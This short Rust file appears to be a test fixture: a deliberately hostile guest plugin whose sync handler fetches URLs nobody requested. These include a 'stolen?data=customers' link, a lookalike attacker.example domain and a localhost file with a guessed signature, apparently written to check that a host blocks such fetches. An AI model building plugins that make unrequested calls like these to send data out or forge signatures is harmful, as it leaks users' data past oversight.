//! Fetches from a download host what nobody named.

use koalr_hostile_guests::{Hostile, ask, guest, sync, told};

struct MakesUpADownload;

impl Hostile for MakesUpADownload {
    fn sync(request: sync::Request) -> Result<sync::Batch, sync::Error> {
        let port = request.endpoint.base.rsplit(':').next().unwrap();
        let urls = [
            "https://files.example.com/stolen?data=customers".to_owned(),
            "https://evil.files.example.com.attacker.example/x".to_owned(),
            format!("http://127.0.0.1:{port}/file.csv?signature=guessed"),
        ];
        Ok(told::batch(urls.map(|url| {
            let answer = told::line(ask::get(&url));
            (url, answer)
        })))
    }
}

guest!(MakesUpADownload);
